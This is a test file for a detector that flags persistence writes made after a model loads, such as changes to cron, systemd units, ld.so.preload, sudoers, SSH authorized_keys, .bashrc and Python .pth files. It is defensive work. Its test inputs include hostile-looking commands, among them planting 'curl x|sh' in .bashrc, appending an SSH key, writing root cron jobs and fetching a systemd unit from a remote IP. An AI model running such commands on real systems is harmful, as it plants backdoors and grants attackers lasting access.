import test from 'ava';
import persistence from '../../detectors/persistence.ts';
import { runsLater } from '../../detectors/places/persistence.ts';
import { fileChanged, memory, noon, process, processExecuted } from '../builders.ts';
import { afterLoad, beforeLoad, later, soon, told, tool, unnamed } from './deeds.ts';

const start = () => persistence.create(persistence.config.parse({}), memory());
const wrote = (path: string, change: Parameters<typeof fileChanged>[0] = {}) => fileChanged({ id: 'write', at: soon, place: { path }, by: process(), ...change });
const ran = (...argv: readonly string[]) => processExecuted({ id: 'run', at: soon, process: tool(`/usr/bin/${argv[0]}`, argv) });

/** Rule and severity, a path, and a near miss. */
const rules: readonly (readonly [string, string, string])[] = [
  ['persistence.preload critical', '/etc/ld.so.preload', '/etc/ld.so.cache'],
  ['persistence.cron high', '/etc/cron.d/x', '/etc/cron'],
  ['persistence.cron high', '/var/spool/cron/crontabs/root', '/var/spool/mail/root'],
  ['persistence.at high', '/var/spool/at/a0001', '/var/spool/lpd/a'],
  ['persistence.systemd high', '/etc/systemd/system/x.service', '/etc/systemd/journald.conf'],
  ['persistence.systemd high', '/home/u/.config/systemd/user/x.timer', '/home/u/systemd/x.timer'],
  ['persistence.init-script high', '/etc/rc.local', '/etc/rc.conf'],
  ['persistence.authorized-keys high', '/root/.ssh/authorized_keys', '/root/.ssh/known_hosts'],
  ['persistence.sudoers critical', '/etc/sudoers.d/x', '/etc/sudo.conf'],
  ['persistence.accounts critical', '/etc/passwd', '/etc/passwd.txt'],
  ['persistence.pam critical', '/etc/pam.d/sshd', '/etc/pam.txt'],
  ['persistence.shell-start high', '/home/u/.bashrc', '/home/u/bashrc'],
  ['persistence.shell-start high', '/etc/profile.d/x.sh', '/etc/profiles/x'],
  ['persistence.event-script high', '/etc/update-motd.d/99-x', '/etc/motd.tail'],
  ['persistence.udev high', '/etc/udev/rules.d/9.rules', '/etc/udev/udev.conf'],
  ['persistence.autostart high', '/home/u/.config/autostart/x.desktop', '/home/u/.config/x.desktop'],
  ['persistence.kernel-module critical', '/etc/modules-load.d/x.conf', '/etc/modules.txt'],
  ['persistence.python-start high', '/usr/lib/python3/dist-packages/x.pth', '/srv/models/x.pth'],
  ['persistence.python-start high', '/home/u/.local/lib/python3.11/site-packages/usercustomize.py', '/home/u/customize.py'],
  ['persistence.git-hook medium', '/srv/x/.git/hooks/post-checkout', '/srv/x/.git/hooks/post-checkout.sample'],
  ['persistence.notebook-start medium', '/home/u/.ipython/profile_default/startup/0.py', '/home/u/.ipython/profile_default/history.sqlite'],
  ['persistence.system-program high', '/usr/bin/ls', '/srv/bin/ls'],
];
for (const [expected, path, other] of rules) {
  test(`${path} written after a load is ${expected}`, t => {
    const found = afterLoad(start())(wrote(path));
    t.deepEqual(told(found), [expected]);
    t.deepEqual(found[0]?.because, ['write', 'load']);
    t.deepEqual(unnamed(found), []);
    t.is(runsLater(other), null);
  });
}

test('a file that is only found, removed, or changed by somebody else is not written by the model', t => {
  const see = afterLoad(start());
  t.deepEqual(see(wrote('/etc/cron.d/x', { change: 'found' })), []);
  t.deepEqual(see(wrote('/etc/cron.d/x', { change: 'removed', file: null, access: null })), []);
  t.deepEqual(see(wrote('/etc/cron.d/x', { by: null })), []);
  t.deepEqual(see(wrote('/etc/cron.d/x', { by: tool('/usr/bin/vi', ['vi'], { ancestors: [] }) })), []);
});

test('an installer that writes start-up files of Python is low, one that writes jobs of cron is not', t => {
  const pip = tool('/usr/bin/python3', ['python3', '-m', 'pip', 'install', 'x']);
  t.deepEqual(told(afterLoad(start())(wrote('/usr/lib/python3/dist-packages/x.pth', { by: pip }))), ['persistence.python-start low']);
  t.deepEqual(told(afterLoad(start())(wrote('/etc/cron.d/x', { by: pip }))), ['persistence.cron high']);
});

test('an hour later it is one step less, and before any load two', t => {
  t.deepEqual(told(afterLoad(start())(wrote('/etc/cron.d/x', { at: later }))), ['persistence.cron medium']);
  t.deepEqual(told(beforeLoad(start())(wrote('/etc/cron.d/x', { at: noon - 1 }))), ['persistence.cron low']);
});

const commands: readonly (readonly [string, readonly string[]])[] = [
  ['persistence.shell-start high', ['sh', '-c', 'echo "curl x|sh" >> ~/.bashrc']],
  ['persistence.cron high', ['bash', '-c', '(echo "* * * * * root x") >/etc/cron.d/x 2>&1']],
  ['persistence.authorized-keys high', ['sh', '-c', 'mkdir -p $HOME/.ssh && echo ssh-ed25519 AAAA | tee -a $HOME/.ssh/authorized_keys']],
  ['persistence.preload critical', ['cp', '/tmp/x', '/etc/ld.so.preload']],
  ['persistence.sudoers critical', ['sed', '-i', 's/x/y/', '/etc/sudoers']],
  ['persistence.systemd high', ['curl', '-o', '/etc/systemd/system/x.service', 'http://203.0.113.9/x']],
  ['persistence.system-program high', ['dd', 'if=/tmp/x', 'of=/usr/bin/ls']],
];
for (const [expected, argv] of commands) {
  test(`a command that writes there is ${expected}: ${argv.join(' ')}`, t => { t.deepEqual(told(afterLoad(start())(ran(...argv))), [expected]); });
}

for (const argv of [['cat', '/etc/crontab'], ['cp', '/etc/passwd', '/tmp/x'], ['sh', '-c', 'cat ~/.bashrc > /tmp/x'], ['sh', '-c', 'grep x /etc/passwd 2>/dev/null'], ['sh', '-c', '/usr/bin/ls >out'], ['sed', 's/x/y/', '/etc/sudoers']]) {
  test(`a command that only reads there is nothing here: ${argv.join(' ')}`, t => { t.deepEqual(afterLoad(start())(ran(...argv)), []); });
}
